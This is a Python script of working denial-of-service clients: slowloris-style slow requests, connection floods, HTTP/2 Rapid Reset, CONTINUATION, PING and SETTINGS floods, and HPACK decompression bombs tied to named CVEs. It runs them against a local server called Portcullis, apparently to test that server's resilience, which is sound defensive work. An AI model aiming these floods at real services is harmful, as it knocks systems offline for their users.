"""Hostile clients, each one process that does its harm for some seconds: `attacks.py` runs them against Portcullis.

usage: hostile.py NAME --port PLAIN --tls TLS --seconds S [--addresses N] [--token FILE]   (NAME `list` prints all names)

Sockets of the kernel alone, without a library that would keep to the rules. Connections come from 127.1.0.1 and the addresses
after it; each is opened again when the other end closes it, at most a thousand a second.
"""

import argparse
import contextlib
import errno
import json
import pathlib
import select
import socket
import ssl
import struct
import sys
import time

HOST = "files.test"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4
OPENED_PER_SECOND = 1000
IN, OUT, ERR, HUP, RDHUP = select.EPOLLIN, select.EPOLLOUT, select.EPOLLERR, select.EPOLLHUP, select.EPOLLRDHUP


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def settings(**values):
    names = {"window": INITIAL_WINDOW_SIZE}
    return frame(SETTINGS, payload=b"".join(struct.pack(">HI", names[name], value) for name, value in values.items()))


def literal(name, value):
    """A field without an index and without Huffman's code (RFC 7541, section 6.2.2)."""
    def text(data):
        return bytes([len(data)]) + data if len(data) < 127 else b"\x7f" + integer(len(data) - 127) + data
    return b"\x00" + text(name.encode()) + text(value.encode())


def integer(value):
    out = b""
    while value > 127:
        out += bytes([value & 127 | 128])
        value >>= 7
    return out + bytes([value])


class Attack:
    """One kind of harm. The defaults: plain connections, opened as fast as allowed, nothing sent, nothing read."""

    tls = False
    alpn = ("h2",)
    to_tls = False      # goes to the TLS listener without TLS
    connections = 500
    reads = False       # takes what the other end sends, and throws it away
    every = None        # seconds between two calls of `drip`
    window = None       # size of the receive buffer

    def __init__(self, token):
        self.token = token

    def first(self, peer):
        """What is sent once a connection is there."""
        return b""

    def more(self, peer):
        """What is sent whenever the other end takes it; None for nothing."""
        return None

    def drip(self, peer):
        """What is sent every `every` seconds."""
        return b""

    def bearer(self):
        return [("authorization", f"Bearer {self.token}")] if self.token else []

    def block(self, path="/", method="GET", more=()):
        return b"".join(literal(name, value) for name, value in
                        [(":method", method), (":scheme", "https"), (":authority", HOST), (":path", path), *more])

    def head(self, line, more=""):
        fields = "".join(f"{name}: {value}\r\n" for name, value in self.bearer())
        return f"{line} HTTP/1.1\r\nHost: {HOST}\r\n{fields}{more}".encode()


class Streams(Attack):
    """A hundred requests on each HTTP/2 connection, a window of 0, and nothing is read."""
    tls, connections, path = True, 400, "/"

    def first(self, peer):
        peer.stream = 199
        block = self.block(self.path, more=self.bearer())
        return PREFACE + settings(window=0) + b"".join(
            frame(HEADERS, END_STREAM | END_HEADERS, number, block) for number in range(1, 200, 2))


class StreamsWithoutToken(Streams):
    def bearer(self):
        return []


class StreamsPlain(StreamsWithoutToken):
    """The same on the plain listener."""
    tls = False


class Downloads(Streams):
    """The same, of ten MiB each, by somebody who has a token."""
    path = "/large"


class Heads(Attack):
    """A head of up to 1 MiB that does not end."""
    connections = 1000

    def first(self, peer):
        peer.left = 1 << 20
        return f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode()

    def more(self, peer):
        if peer.left <= 0:
            return None
        peer.left -= 4096
        return b"X-Filler: " + b"x" * 4084 + b"\r\n"


class HeadsHeld(Attack):
    """A head of 47 KiB, below the limit, that does not end."""
    connections = 2000

    def first(self, peer):
        return f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode() + (b"X-Filler: " + b"x" * 988 + b"\r\n") * 47


class Idle(Attack):
    """Nine thousand connections that say nothing."""
    connections = 9000


class FewDescriptors(Idle):
    """As many silent connections as there are, to a process that may open 128 files."""
    connections = 300


class SilentTls(Attack):
    """Two thousand connections to the TLS listener that say nothing."""
    connections = 2000
    to_tls = True


class HalfHello(SilentTls):
    """The first bytes of a TLS handshake, and no more."""

    def first(self, peer):
        return b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"


class SilentH2(Attack):
    """A whole handshake for HTTP/2, and then nothing."""
    tls, connections = True, 1000


class PrefaceOnly(SilentH2):
    """A whole handshake and the preface of HTTP/2, and then nothing."""

    def first(self, peer):
        return PREFACE


class SlowHeads(Attack):
    """A byte of a head each second."""
    connections, every = 1000, 1

    def first(self, peer):
        return b"GET /"

    def drip(self, peer):
        return b"x"


class SlowBodies(Attack):
    """A byte of a body each second, by somebody who has a token."""
    connections, every = 500, 1

    def first(self, peer):
        return self.head("POST /upload", "Content-Length: 1000000\r\n\r\n")

    def drip(self, peer):
        return b"x"


class TricklingReaders(Attack):
    """Ten MiB, of which a byte is read each second, by somebody who has a token."""
    connections, every, window = 500, 1, 4096

    def first(self, peer):
        return self.head("GET /large", "\r\n")

    def drip(self, peer):
        with contextlib.suppress(BlockingIOError, ssl.SSLError):
            peer.sock.recv(1)
        return b""


class RefusalsUnread(Attack):
    """Requests without a token, one after the other on each connection, whose answers nobody reads."""
    connections, window = 500, 4096

    def first(self, peer):
        return b""

    def more(self, peer):
        return f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()


class RapidReset(Attack):
    """Requests that are cancelled at once (CVE-2023-44487)."""
    tls, connections, reads = True, 20, True

    def first(self, peer):
        peer.stream = -1
        return PREFACE + settings()

    def more(self, peer):
        block, out = self.block(), b""
        for _ in range(50):
            peer.stream += 2
            out += frame(HEADERS, END_STREAM | END_HEADERS, peer.stream, block) + frame(RST_STREAM, 0, peer.stream, struct.pack(">I", 8))
        return out


class Continuation(Attack):
    """A head in frames that do not end (CVE-2024-27316)."""
    tls, connections, reads = True, 50, True

    def first(self, peer):
        return PREFACE + settings() + frame(HEADERS, END_STREAM, 1, self.block())

    def more(self, peer):
        return frame(CONTINUATION, 0, 1, literal("x-filler", "x" * 4000))


class EmptyContinuation(Continuation):
    """The same with empty frames, which count against no size."""

    def more(self, peer):
        return frame(CONTINUATION, 0, 1, b"") * 100


class Pings(Attack):
    """PINGs, whose answers nobody reads (CVE-2019-9512)."""
    tls, connections = True, 50

    def first(self, peer):
        return PREFACE + settings()

    def more(self, peer):
        return frame(PING, payload=b"12345678") * 100


class PingsRead(Pings):
    """PINGs, whose answers are read."""
    reads, connections = True, 20


class SettingsFlood(Pings):
    """SETTINGS, whose answers nobody reads (CVE-2019-9515)."""

    def more(self, peer):
        return settings(window=0) * 100


class WindowUpdates(Pings):
    """The connection's window, enlarged by a byte at a time."""

    def more(self, peer):
        return frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 100


class Unpacked(Attack):
    """Heads of a few KiB that unpack to 60 MiB: a large field, and thousands of references to it (CVE-2016-6581)."""
    tls, connections, reads = True, 20, True

    def first(self, peer):
        peer.stream = 1
        # Into the dynamic table, where it is entry 62.
        large = b"\x40" + literal("x-large", "x" * 3900)[1:]
        return PREFACE + settings() + frame(HEADERS, END_STREAM | END_HEADERS, 1, self.block() + large)

    def more(self, peer):
        peer.stream += 2
        return frame(HEADERS, END_STREAM | END_HEADERS, peer.stream, self.block() + b"\xbe" * 16000)


class PlainPreface(Attack):
    """The preface of HTTP/2 on the plain listener, and then nothing."""
    connections = 2000

    def first(self, peer):
        return PREFACE


class EmptyData(Attack):
    """Pieces of a body without a byte (CVE-2019-9518)."""
    tls, connections, reads = True, 20, True

    def first(self, peer):
        return PREFACE + settings() + frame(HEADERS, END_HEADERS, 1, self.block("/upload", "POST", self.bearer()))

    def more(self, peer):
        return frame(DATA, 0, 1) * 100


class Handshakes(Attack):
    """TLS handshakes, one after the other."""
    tls, connections = True, 20

    def first(self, peer):
        peer.over = True
        return b""


class PlainToTls(Attack):
    """Plain requests to the TLS listener."""
    connections, reads, to_tls = 50, True, True

    def first(self, peer):
        return f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()


class Probes(SilentTls):
    """Connections to the TLS listener that are closed at once, as balancers probe."""
    connections = 50

    def first(self, peer):
        peer.over = True
        return b""


class BadTokens(Attack):
    """Tokens with a wrong signature, each another, one after the other."""
    connections, reads = 50, True

    def first(self, peer):
        peer.number = 0
        peer.asked = peer.answered = 0
        return b""

    def more(self, peer):
        if peer.asked > peer.answers + 4:
            return b""
        peer.asked += 1
        peer.number += 1
        header, claims, signature = self.token.split(".")
        unlike = f"{(id(peer) + peer.number) % 10**8:08}"
        return f"GET / HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {header}.{claims}.{unlike}{signature[8:]}\r\n\r\n".encode()


ATTACKS = {
    "streams-unread": StreamsWithoutToken, "streams-plain": StreamsPlain, "downloads-unread": Downloads, "heads-unfinished": Heads, "heads-held": HeadsHeld, "idle": Idle, "few-descriptors": FewDescriptors,
    "silent-tls": SilentTls, "half-hello": HalfHello, "silent-h2": SilentH2, "preface-only": PrefaceOnly,
    "slow-heads": SlowHeads, "slow-bodies": SlowBodies, "trickling-readers": TricklingReaders, "refusals-unread": RefusalsUnread,
    "rapid-reset": RapidReset, "continuation": Continuation, "empty-continuation": EmptyContinuation, "pings": Pings,
    "pings-read": PingsRead, "settings": SettingsFlood, "window-updates": WindowUpdates, "unpacked": Unpacked, "plain-preface": PlainPreface, "empty-data": EmptyData, "handshakes": Handshakes,
    "plain-to-tls": PlainToTls, "probes": Probes, "bad-tokens": BadTokens,
}


class Peer:
    """One connection of an attack."""

    def __init__(self, attack, address, port, context):
        self.attack, self.out, self.state, self.over, self.answers = attack, b"", "connecting", False, 0
        self.born = time.monotonic()
        self.sock = socket.socket()
        self.sock.setblocking(False)
        if attack.window:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, attack.window)
        # IP_BIND_ADDRESS_NO_PORT: the port is chosen with the other end's, so that there are enough of them.
        self.sock.setsockopt(socket.IPPROTO_IP, 24, 1)
        self.sock.bind((address, 0))
        with contextlib.suppress(BlockingIOError):
            self.sock.connect(("127.0.0.1", port))
        self.context, self.file = context, self.sock.fileno()

    def go(self, readable):
        """Does what can be done; gives which events are awaited next, 0 for none but the end."""
        if self.state == "connecting":
            failed = self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            if failed:
                raise OSError(failed, errno.errorcode.get(failed))
            if self.attack.tls:
                self.sock = self.context.wrap_socket(self.sock, server_hostname=HOST, do_handshake_on_connect=False)
                self.state = "shaking"
            else:
                self.state = "ready"
                self.out = self.attack.first(self)
        if self.state == "shaking":
            try:
                self.sock.do_handshake()
            except ssl.SSLWantReadError:
                return IN
            except ssl.SSLWantWriteError:
                return OUT
            self.state = "ready"
            self.out = self.attack.first(self)
        if readable and self.attack.reads:
            self.read()
        sent = self.send()
        if self.over and not self.out:
            raise ConnectionAbortedError
        return (IN if self.attack.reads else 0) | (OUT if self.out or sent else 0)

    def read(self):
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
            while True:
                piece = self.sock.recv(65536)
                if not piece:
                    raise ConnectionResetError
                self.answers += piece.count(b"HTTP/1.1 ")

    def send(self):
        """Whether there is more to send when the other end takes it."""
        for _ in range(16):
            if not self.out:
                self.out = self.attack.more(self)
                if self.out is None:
                    self.out = b""
                    return False
                if not self.out:
                    # Nothing for now: it is asked again when something was read.
                    return False
            try:
                self.out = self.out[self.sock.send(self.out):]
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                return True
        return True


def run(attack, plain, tls, seconds, addresses):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(list(attack.alpn))
    port = tls if attack.tls or attack.to_tls else plain
    # EPOLLRDHUP: that the other end closed is seen without reading.
    poll, peers = select.epoll(), {}
    counts = {"opened": 0, "closed by the other end": 0, "most open": 0, "refused": 0}
    lives = []
    end, begun, next_drip = time.monotonic() + seconds, time.monotonic(), time.monotonic() + (attack.every or 0)

    def drop(peer, closed):
        peers.pop(peer.file, None)
        with contextlib.suppress(OSError):
            poll.unregister(peer.file)
        if closed:
            counts["closed by the other end"] += 1
            if len(lives) < 100_000:
                lives.append(time.monotonic() - peer.born)
        peer.sock.close()

    def step(peer, events):
        try:
            if events & (ERR | HUP):
                raise ConnectionResetError
            if events & RDHUP and not (attack.reads and events & IN):
                raise ConnectionResetError
            mask = RDHUP | peer.go(events & IN)
            if mask != peer.mask:
                poll.modify(peer.file, mask)
                peer.mask = mask
        except ConnectionAbortedError:
            drop(peer, False)
        except OSError:
            drop(peer, True)

    while (now := time.monotonic()) < end:
        allowed = int((now - begun) * OPENED_PER_SECOND) + 50 - counts["opened"] - counts["refused"]
        for _ in range(min(allowed, attack.connections - len(peers), 50)):
            number = counts["opened"] % addresses
            try:
                peer = Peer(attack, f"127.1.{number // 250}.{number % 250 + 1}", port, context)
            except OSError:
                counts["refused"] += 1
                continue
            counts["opened"] += 1
            peers[peer.file] = peer
            peer.mask = RDHUP | OUT
            poll.register(peer.file, peer.mask)
        counts["most open"] = max(counts["most open"], len(peers))
        for file, events in poll.poll(0.02, 512):
            if file in peers:
                step(peers[file], events)
        if attack.every and now >= next_drip:
            next_drip = now + attack.every
            for peer in list(peers.values()):
                if peer.state == "ready":
                    peer.out += attack.drip(peer)
                    step(peer, OUT)
    lives.sort()
    counts["open at the end"] = len(peers)
    if lives:
        counts["closed after (median)"] = round(lives[len(lives) // 2], 3)
    return counts


def main():
    options = argparse.ArgumentParser()
    options.add_argument("name")
    options.add_argument("--port", type=int)
    options.add_argument("--tls", type=int)
    options.add_argument("--seconds", type=float, default=5)
    options.add_argument("--addresses", type=int, default=1)
    options.add_argument("--token", type=pathlib.Path)
    chosen = options.parse_args()
    if chosen.name == "list":
        print("\n".join(ATTACKS))
        return
    token = chosen.token.read_text().strip() if chosen.token else ""
    print(json.dumps(run(ATTACKS[chosen.name](token), chosen.port, chosen.tls, min(chosen.seconds, 120), chosen.addresses)))


if __name__ == "__main__":
    sys.exit(main())
